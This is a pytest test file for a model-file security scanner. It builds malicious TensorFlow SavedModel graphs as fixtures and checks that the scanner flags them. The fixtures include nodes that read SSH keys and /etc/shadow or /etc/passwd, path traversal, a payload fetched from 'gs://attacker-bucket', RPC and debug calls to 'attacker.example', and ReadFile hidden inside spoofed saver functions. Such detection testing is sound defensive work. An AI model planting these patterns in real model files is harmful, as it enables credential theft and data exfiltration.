"""Scanning TensorFlow SavedModels / GraphDefs end to end: op judgement and SavedModel folders."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import pytest

import modelxray
from modelxray.analysis import tf_graph
from modelxray.budget import Budget
from modelxray.formats.savedmodel import looks_like_graph_def
from modelxray.formats.tf.savedmodel import read_saved_model
from modelxray.model import Confidence, FileResult, FileStatus, Finding, Severity
from tests import protobuf_builders as pb

DATA = Path(__file__).parent / "data" / "savedmodel"
DT_STRING = pb.DT_STRING


def scan_file(path: Path) -> FileResult:
    (result,) = modelxray.scan(path).files
    return result


def scan_bytes(tmp_path: Path, data: bytes, name: str = "saved_model.pb") -> FileResult:
    path = tmp_path / name
    path.write_bytes(data)
    return scan_file(path)


def tf_findings(result: FileResult) -> list[Finding]:
    return [f for f in result.findings if f.rule_id.startswith("MX-TF-")]


def const(name: str, *values: str) -> pb.Msg:
    return pb.node(
        name, "Const", value=pb.attr_string_tensor(*values), dtype=pb.attr_type(DT_STRING)
    )


def with_serve(*nodes: pb.Msg, **kw: Any) -> bytes:
    return pb.saved_model(pb.keras_like_model(extra_functions=[pb.function(pb.SERVE_FN, nodes)]))


# --------------------------------------------------------------------------- op list


def test_standard_op_list_is_tf_registry() -> None:
    ops = tf_graph.standard_ops()
    assert len(ops) > 1500
    assert {"ReadFile", "StatefulPartitionedCall", "SaveV2", "EagerPyFunc", "Const"} <= ops
    assert "ModelxrayCustomOpNotInTF" not in ops
    header = (Path(modelxray.__file__).parent / "data" / "tf_ops.txt").read_text().splitlines()[0]
    assert header.startswith("#") and "2.19.1" in header


# --------------------------------------------------------------------------- builder fixtures


def test_plain_keras_like_model_has_no_graph_finding(tmp_path: Path) -> None:
    result = scan_bytes(tmp_path, pb.plain_saved_model())
    assert result.formats == ["tf-savedmodel"] and result.status == FileStatus.SCANNED
    assert tf_findings(result) == []
    # The Lambda in the user-object metadata is the Keras analyser's (low) finding.
    assert result.findings and all(f.severity < Severity.MEDIUM for f in result.findings)


@pytest.mark.parametrize(
    "kind, rule, op, severity, evidence",
    [
        ("read_file", "MX-TF-102", "ReadFile", Severity.HIGH, "/tmp/modelxray_dummy.txt"),
        ("write_file", "MX-TF-103", "WriteFile", Severity.HIGH, "/tmp/modelxray_marker"),
        ("py_func", "MX-TF-101", "PyFunc", Severity.MEDIUM, "pyfunc_0"),
        ("eager_py_func", "MX-TF-101", "EagerPyFunc", Severity.MEDIUM, "pyfunc_1"),
        ("immutable_const", "MX-TF-102", "ImmutableConst", Severity.HIGH, "/etc/hostname"),
        ("print_v2", "MX-TF-103", "PrintV2", Severity.HIGH, "file:///tmp/modelxray_marker"),
        ("custom_op", "MX-TF-105", "ModelxrayCustomOpNotInTF", Severity.MEDIUM, None),
    ],
)
def test_malicious_variants(
    tmp_path: Path, kind: str, rule: str, op: str, severity: Severity, evidence: str | None
) -> None:
    result = scan_bytes(tmp_path, pb.malicious_saved_model(kind))
    (finding,) = tf_findings(result)
    assert (finding.rule_id, finding.severity) == (rule, severity)
    assert finding.evidence["op"] == op and finding.evidence["function"] == pb.SERVE_FN
    assert finding.location.inner[:2] == ("meta_graph[0]", f"function:{pb.SERVE_FN}")
    assert finding.location.inner[2].startswith("node:")
    assert pb.SERVE_FN in finding.message
    if evidence is not None:
        assert evidence in str(finding.evidence) and evidence in finding.message


def test_constant_path_traced_through_pass_through_ops(tmp_path: Path) -> None:
    data = with_serve(
        const("dir", "/home/user/"),
        const("file", ".ssh/id_rsa"),
        pb.node("join", "StringJoin", ["dir:output:0", "file:output:0", "^ctrl"]),
        pb.node("id", "Identity", ["join:output:0"]),
        pb.node("ReadFile", "ReadFile", ["id:output:0", "^join"]),
    )
    (finding,) = tf_findings(scan_bytes(tmp_path, data))
    assert finding.rule_id == "MX-TF-102" and finding.confidence == Confidence.HIGH
    assert finding.evidence["path_is_constant"] is True
    assert set(finding.evidence["constant_strings"]) == {"/home/user/", ".ssh/id_rsa"}


def test_run_time_paths_are_medium(tmp_path: Path) -> None:
    data = with_serve(pb.node("ReadFile", "ReadFile", ["path_arg"]))
    (finding,) = tf_findings(scan_bytes(tmp_path, data))
    assert (finding.rule_id, finding.severity) == ("MX-TF-102", Severity.MEDIUM)
    assert finding.evidence["path_is_constant"] is False
    assert "run-time path" in finding.message


def test_top_level_graph_input_forms(tmp_path: Path) -> None:
    graph = pb.meta_graph(
        nodes=[
            const("path", "/etc/shadow"),
            pb.node("ReadFile", "ReadFile", ["path:0", "^path"]),
            pb.node("w", "WriteFile", ["path", "ReadFile:0"]),
        ]
    )
    found = {
        (f.rule_id, f.location.inner[1:])
        for f in tf_findings(scan_bytes(tmp_path, pb.saved_model(graph)))
    }
    assert found == {("MX-TF-102", ("graph", "node:ReadFile")), ("MX-TF-103", ("graph", "node:w"))}


def test_remote_paths_and_network_ops(tmp_path: Path) -> None:
    data = with_serve(
        const("url", "gs://attacker-bucket/payload"),
        pb.node("ReadFile", "ReadFile", ["url:output:0"]),
        const("addr", "attacker.example:443"),
        pb.node("client", "RpcClient", ["addr:output:0", "timeout"]),
    )
    by_rule: dict[str, list[Finding]] = {}
    for f in tf_findings(scan_bytes(tmp_path, data)):
        by_rule.setdefault(f.rule_id, []).append(f)
    assert len(by_rule["MX-TF-102"]) == 1
    network = {f.evidence["op"]: f for f in by_rule["MX-TF-104"]}
    assert set(network) == {"ReadFile", "RpcClient"}
    assert network["ReadFile"].evidence["urls"] == ["gs://attacker-bucket/payload"]
    assert "attacker.example:443" in network["RpcClient"].message


def test_debug_and_decode_proto_and_harmless_print(tmp_path: Path) -> None:
    urls = pb.attr_list(s=["file:///tmp/modelxray_marker_dump", "grpc://attacker.example:6064"])
    data = with_serve(
        pb.node("dbg", "DebugIdentity", ["x"], debug_urls=urls),
        pb.node("proto", "DecodeProtoV2", ["x"], descriptor_source=pb.attr_s("/etc/passwd")),
        pb.node("proto_ok", "DecodeProtoV2", ["x"], descriptor_source=pb.attr_s("local://")),
        pb.node("print", "PrintV2", ["x"], output_stream=pb.attr_s("stderr")),
    )
    found = {(f.rule_id, f.evidence["node"]) for f in tf_findings(scan_bytes(tmp_path, data))}
    assert found == {("MX-TF-103", "dbg"), ("MX-TF-104", "dbg"), ("MX-TF-102", "proto")}


def test_function_call_ops_are_not_custom_ops(tmp_path: Path) -> None:
    graph = pb.meta_graph(
        nodes=[pb.node("call", "my_function", ["x"])],
        functions=[pb.function("my_function", [pb.node("y", "Identity", ["x"])])],
    )
    assert tf_findings(scan_bytes(tmp_path, pb.saved_model(graph))) == []


def test_many_findings_are_summarised(tmp_path: Path) -> None:
    nodes = [
        pb.node(f"r{i}", "ReadFile", [f"arg{i}"]) for i in range(tf_graph.MAX_REPORTED_PER_RULE + 7)
    ]
    found = tf_findings(scan_bytes(tmp_path, with_serve(*nodes)))
    assert len(found) == tf_graph.MAX_REPORTED_PER_RULE + 1
    (summary,) = [f for f in found if "more nodes" in f.message]
    assert summary.evidence["matched"] == tf_graph.MAX_REPORTED_PER_RULE + 7
    assert summary.severity == Severity.MEDIUM  # the worst of those not listed


# --------------------------------------------------------------------------- saver excuse


def _graph_with_saver(save_fn: pb.Msg, restore_fn: pb.Msg) -> bytes:
    """A meta graph whose saver_def points at the given save / restore functions."""
    save_name = next(str(v[0][1]) for n, v in save_fn if n == 1 and isinstance(v, list))
    restore_name = next(str(v[0][1]) for n, v in restore_fn if n == 1 and isinstance(v, list))
    graph = pb.meta_graph(
        nodes=[
            pb.node("saver_filename", "Placeholder", dtype=pb.attr_type(DT_STRING)),
            pb.node(
                "save", "StatefulPartitionedCall", ["saver_filename"], f=pb.attr_func(save_name)
            ),
            pb.node(
                "restore",
                "StatefulPartitionedCall",
                ["saver_filename"],
                f=pb.attr_func(restore_name),
            ),
        ],
        functions=[save_fn, restore_fn],
        saver={1: "saver_filename:0", 2: "save:0", 3: "restore"},
    )
    return pb.saved_model(graph)


def test_spoofed_saver_function_with_read_file_is_flagged(tmp_path: Path) -> None:
    restore = pb.function(
        "__inference__traced_restore_9",
        [
            pb.node("RestoreV2", "RestoreV2", ["file_prefix", "names", "slices"]),
            const("p", "/etc/passwd"),
            pb.node("ReadFile", "ReadFile", ["p:output:0"]),
        ],
    )
    save = pb.function("__inference__traced_save_8", [pb.node("SaveV2", "SaveV2", ["file_prefix"])])
    found = tf_findings(scan_bytes(tmp_path, _graph_with_saver(save, restore)))
    assert [(f.rule_id, f.evidence["op"], f.evidence["constant_strings"]) for f in found] == [
        ("MX-TF-102", "ReadFile", ["/etc/passwd"])
    ]
    assert found[0].evidence["function"] == "__inference__traced_restore_9"


@pytest.mark.parametrize(
    "nodes",
    [
        # constant path inside the saver function
        [const("p", "/home/user/.bashrc"), pb.node("SaveV2", "SaveV2", ["p:output:0"])],
        # the argument, with a traversal fragment joined on
        [
            const("up", "/../../../home/user/.bashrc"),
            pb.node("j", "StringJoin", ["file_prefix", "up:output:0"]),
            pb.node("SaveV2", "SaveV2", ["j:output:0"]),
        ],
    ],
)
def test_saver_checkpoint_ops_with_constant_paths_are_flagged(
    tmp_path: Path, nodes: list[pb.Msg]
) -> None:
    save = pb.function("__inference__traced_save_8", nodes)
    restore = pb.function(
        "__inference__traced_restore_9", [pb.node("R", "RestoreV2", ["file_prefix"])]
    )
    (finding,) = tf_findings(scan_bytes(tmp_path, _graph_with_saver(save, restore)))
    assert (finding.rule_id, finding.evidence["op"]) == ("MX-TF-103", "SaveV2")
    assert "/home/user/.bashrc" in finding.message


def test_checkpoint_ops_outside_the_saver_are_flagged(tmp_path: Path) -> None:
    data = with_serve(
        pb.node("SaveV2", "SaveV2", ["prefix_arg", "names"]),
        pb.node("MergeV2Checkpoints", "MergeV2Checkpoints", ["a", "b"]),
        pb.node("RestoreV2", "RestoreV2", ["prefix_arg", "names"]),
    )
    found = {
        (f.rule_id, f.evidence["op"], f.severity) for f in tf_findings(scan_bytes(tmp_path, data))
    }
    assert found == {
        ("MX-TF-103", "SaveV2", Severity.HIGH),
        ("MX-TF-103", "MergeV2Checkpoints", Severity.HIGH),
        ("MX-TF-102", "RestoreV2", Severity.MEDIUM),
    }


def _tf1_graph(assets: str, filename: str = "vocab.txt") -> bytes:
    """A TF1-style graph: saver ops in the top-level graph and a vocabulary-file table."""
    graph = pb.meta_graph(
        nodes=[
            const("save/filename/input", "model"),
            pb.node("save/Const", "PlaceholderWithDefault", ["save/filename/input"]),
            const("save/StringJoin/inputs_1", "_temp_0123abcd/part"),
            pb.node("save/StringJoin", "StringJoin", ["save/Const", "save/StringJoin/inputs_1"]),
            pb.node("save/ShardedFilename", "ShardedFilename", ["save/StringJoin", "shard", "n"]),
            pb.node("save/SaveV2", "SaveV2", ["save/ShardedFilename", "names", "slices", "v"]),
            pb.node("save/RestoreV2", "RestoreV2", ["save/Const", "names", "slices"]),
            const("asset_path", "/export/dir/assets/vocab.txt"),
            pb.node("table", "HashTableV2"),
            pb.node("init", "InitializeTableFromTextFileV2", ["table", "asset_path"]),
        ],
        saver={1: "save/Const:0", 2: "save/control_dependency:0", 3: "save/restore_all"},
    )
    asset_file_def: pb.Msg = [(1, [(1, "asset_path:0")]), (2, filename)]
    if assets == "asset_file_def":  # MetaGraphDef.asset_file_def = 6
        graph.append((6, asset_file_def))
    elif assets == "collection":  # collection_def = 4 {"saved_model_assets": any_list = 5}
        any_msg: pb.Msg = [(1, "type.googleapis.com/tensorflow.AssetFileDef"), (2, asset_file_def)]
        graph.append((4, [(1, "saved_model_assets"), (2, [(5, [(1, any_msg)])])]))
    return pb.saved_model(graph)


@pytest.mark.parametrize("assets", ["asset_file_def", "collection"])
def test_tf1_saver_and_asset_table_are_not_flagged(tmp_path: Path, assets: str) -> None:
    (finding,) = tf_findings(scan_bytes(tmp_path, _tf1_graph(assets)))
    assert (finding.rule_id, finding.severity) == ("MX-TF-102", Severity.LOW)
    assert finding.evidence["op"] == "InitializeTableFromTextFileV2"
    # An absolute asset filename makes the loader feed that path: constant, high.
    (finding,) = tf_findings(scan_bytes(tmp_path, _tf1_graph(assets, "/etc/passwd")))
    assert (finding.rule_id, finding.severity) == ("MX-TF-102", Severity.HIGH)
    assert "/etc/passwd" in finding.evidence["constant_strings"]


def test_tf1_asset_const_without_asset_def_is_a_constant_path(tmp_path: Path) -> None:
    (finding,) = tf_findings(scan_bytes(tmp_path, _tf1_graph("none")))
    assert (finding.rule_id, finding.severity) == ("MX-TF-102", Severity.HIGH)
    assert finding.evidence["constant_strings"] == ["/export/dir/assets/vocab.txt"]


# --------------------------------------------------------------------------- text format, GraphDef


def test_text_format_finds_the_same(tmp_path: Path) -> None:
    def key(result: FileResult) -> list[tuple[str, tuple[str, ...], str]]:
        return sorted((f.rule_id, f.location.inner, f.message) for f in result.findings)

    text = scan_file(DATA / "file_io" / "saved_model.pbtxt")
    binary = scan_file(DATA / "file_io" / "saved_model.pb")
    assert text.formats == ["tf-savedmodel-text"] and key(text) == key(binary)
    assert {f.rule_id for f in text.findings} == {"MX-TF-102", "MX-TF-103"}
    # Content, not names: the text SavedModel under another name is still recognised.
    renamed = tmp_path / "graph.txt"
    shutil.copy(DATA / "file_io" / "saved_model.pbtxt", renamed)
    assert key(scan_file(renamed)) != [] and scan_file(renamed).formats == ["tf-savedmodel-text"]


def test_handwritten_pbtxt(tmp_path: Path) -> None:
    text = """saved_model_schema_version: 1
meta_graphs {
  graph_def {
    library {
      function {
        signature { name: "__inference_serve_1" }
        node_def { name: "p" op: "Const"
          attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/etc/passwd" } } } }
        node_def { name: "ReadFile" op: "ReadFile" input: "p:output:0" }
        node_def { name: "cb" op: "PyFuncStateless" attr { key: "token" value { s: "pyfunc_7" } } }
      }
    }
  }
}
"""
    result = scan_bytes(tmp_path, text.encode(), "saved_model.pbtxt")
    found = {(f.rule_id, f.evidence["node"]) for f in tf_findings(result)}
    assert found == {("MX-TF-102", "ReadFile"), ("MX-TF-101", "cb")}


def test_frozen_graph_def(tmp_path: Path) -> None:
    clean = pb.encode([(1, const("c", "x")), (1, pb.node("y", "Identity", ["c"])), (4, [(1, 27)])])
    assert looks_like_graph_def(clean)
    result = scan_bytes(tmp_path, clean, "frozen.pb")
    assert result.formats == ["tf-graphdef"] and result.findings == []
    evil = pb.encode(
        [
            (1, const("path", "/etc/passwd")),
            (1, pb.node("ReadFile", "ReadFile", ["path:0"])),
            (
                2,
                [
                    (
                        1,
                        pb.function(
                            "f", [pb.node("cb", "EagerPyFunc", ["x"], token=pb.attr_s("t"))]
                        ),
                    )
                ],
            ),
        ]
    )
    found = {
        (f.rule_id, f.location.inner) for f in scan_bytes(tmp_path, evil, "frozen.pb").findings
    }
    assert found == {
        ("MX-TF-102", ("graph", "node:ReadFile")),
        ("MX-TF-101", ("function:f", "node:cb")),
    }


def test_graph_def_sniffer_rejects_other_protobufs() -> None:
    assert not looks_like_graph_def(pb.plain_saved_model())
    assert not looks_like_graph_def(pb.lambda_keras_metadata())
    assert not looks_like_graph_def((DATA / "keras_lambda" / "fingerprint.pb").read_bytes())
    onnx_like = pb.encode([(1, 7), (2, "pytorch"), (7, [(1, [(1, "x")])])])
    assert not looks_like_graph_def(onnx_like)
    assert not looks_like_graph_def(pb.encode([(1, [(1, "n"), (2, "bad op name!")])]))
    assert not looks_like_graph_def(b"") and not looks_like_graph_def(b"\x00" * 16)


def test_truncated_saved_model_fails_closed(tmp_path: Path) -> None:
    data = pb.malicious_saved_model("read_file")
    result = scan_bytes(tmp_path, data[: len(data) - 10])
    assert result.status == FileStatus.UNSCANNABLE
    assert any(f.rule_id.startswith("MX-SCAN-") for f in result.findings)


# --------------------------------------------------------------------------- real TF folders


def test_real_keras_lambda_folder_only_has_the_lambda_finding() -> None:
    report = modelxray.scan(DATA / "keras_lambda")
    assert {Path(r.path).name: r.status for r in report.files} == {
        "fingerprint.pb": FileStatus.SCANNED,
        "keras_metadata.pb": FileStatus.SCANNED,
        "saved_model.pb": FileStatus.SCANNED,
        "variables.data-00000-of-00001": FileStatus.SCANNED,
        "variables.index": FileStatus.SCANNED,
    }
    formats = {Path(r.path).name: r.formats for r in report.files}
    assert formats["fingerprint.pb"] == ["tf-savedmodel-fingerprint"]
    assert formats["variables.index"] == ["tf-variables-index"]
    assert formats["variables.data-00000-of-00001"] == ["tf-variables"]
    assert report.findings and {f.rule_id for f in report.findings} == {"MX-KERAS-104"}
    assert all(f.severity == Severity.LOW for f in report.findings)


@pytest.mark.parametrize(
    "name, expected",
    [
        (
            "file_io",
            {
                ("MX-TF-102", "ReadFile", "/tmp/modelxray_dummy.txt"),
                ("MX-TF-103", "WriteFile", "/tmp/modelxray_marker"),
            },
        ),
        ("py_function", {("MX-TF-101", "EagerPyFunc", "pyfunc_0")}),
    ],
)
def test_real_malicious_saved_models(name: str, expected: set[tuple[str, str, str]]) -> None:
    result = scan_file(DATA / name / "saved_model.pb")
    found = {
        (
            f.rule_id,
            f.evidence["op"],
            (f.evidence.get("constant_strings") or [f.evidence.get("token")])[0],
        )
        for f in result.findings
    }
    assert found == expected
    for f in result.findings:
        assert f.evidence["function"].startswith("__inference_serve_")
        assert f.evidence["meta_graph_tags"] == ["serve"]


def test_real_saver_functions_are_excused() -> None:
    for name in ("keras_lambda", "file_io", "py_function"):
        mg = read_saved_model((DATA / name / "saved_model.pb").read_bytes(), Budget()).meta_graphs[
            0
        ]
        issues = tf_graph.judge_graph(mg, Budget())
        assert all(i.function not in mg.saver_functions() for i in issues), name


def test_data_shard_needs_a_valid_sibling_index(tmp_path: Path) -> None:
    folder = tmp_path / "variables"
    folder.mkdir()
    shard = folder / "variables.data-00000-of-00001"
    shard.write_bytes(b"\x00" * 64)
    assert scan_file(shard).status == FileStatus.UNSUPPORTED  # no index beside it
    (folder / "variables.index").write_bytes(b"\x00" * 100)
    assert scan_file(shard).status == FileStatus.UNSUPPORTED  # index without the table magic
    shutil.copy(DATA / "file_io" / "variables" / "variables.index", folder / "variables.index")
    result = scan_file(shard)
    assert (result.status, result.formats, result.findings) == (
        FileStatus.SCANNED,
        ["tf-variables"],
        [],
    )


def test_index_with_broken_footer_is_not_recognised(tmp_path: Path) -> None:
    good = (DATA / "file_io" / "variables" / "variables.index").read_bytes()
    # Block handle pointing past the end, magic intact.
    bad = good[:-48] + b"\xff\xff\xff\x7f\x01" + good[-43:]
    result = scan_bytes(tmp_path, bad, "variables.index")
    assert result.formats != ["tf-variables-index"]


def test_fingerprint_sniffer_is_strict(tmp_path: Path) -> None:
    real = (DATA / "file_io" / "fingerprint.pb").read_bytes()
    assert scan_bytes(tmp_path, real, "fingerprint.pb").formats == ["tf-savedmodel-fingerprint"]
    extra = real + pb.encode([(9, "x")])
    assert scan_bytes(tmp_path, extra, "fingerprint.pb").formats != ["tf-savedmodel-fingerprint"]


BENIGN = Path(__file__).parent / "data" / "savedmodel_benign"


@pytest.mark.parametrize("name", ["table_model", "tf1_assets", "frozen_graph.pb"])
def test_benign_tensorflow_output_stays_below_medium(name: str) -> None:
    """Standard TF output (vocabulary assets, TF1 top-level saver, frozen graph): at most the
    low "reads its own asset" finding, every model file recognised."""
    report = modelxray.scan(BENIGN / name)
    assert all(f.severity < Severity.MEDIUM for f in report.findings)
    for result in report.files:
        if Path(result.path).name != "vocab.txt":  # assets are plain data, not a model format
            assert result.status == FileStatus.SCANNED and result.formats, result.path
    low = {f.evidence["op"] for f in report.findings if f.rule_id == "MX-TF-102"}
    assert low == (set() if name == "frozen_graph.pb" else {"InitializeTableFromTextFileV2"})


def test_huge_constant_and_long_chains_stay_bounded(tmp_path: Path) -> None:
    """A string tensor with many values and a deep Identity chain: traces stop at their caps
    (and an incomplete trace never excuses a saver op)."""
    many = [f"/data/{i}" for i in range(20_000)]
    chain = [
        pb.node(f"id{i}", "Identity", [f"id{i - 1}:output:0" if i else "p:output:0"])
        for i in range(400)
    ]
    save = pb.function(
        "__inference__traced_save_8",
        [const("p", *many), *chain, pb.node("SaveV2", "SaveV2", ["id399:output:0"])],
    )
    restore = pb.function(
        "__inference__traced_restore_9",
        [
            const("q", *many),
            pb.node("j", "StringJoin", ["file_prefix", "q:output:0"]),
            pb.node("RestoreV2", "RestoreV2", ["j:output:0"]),
        ],
    )
    found = {
        f.evidence["op"]: f
        for f in tf_findings(scan_bytes(tmp_path, _graph_with_saver(save, restore)))
    }
    assert found["SaveV2"].evidence["trace_truncated"] is True
    assert found["RestoreV2"].evidence["trace_truncated"] is True
    assert len(found["RestoreV2"].evidence["constant_strings"]) <= 10
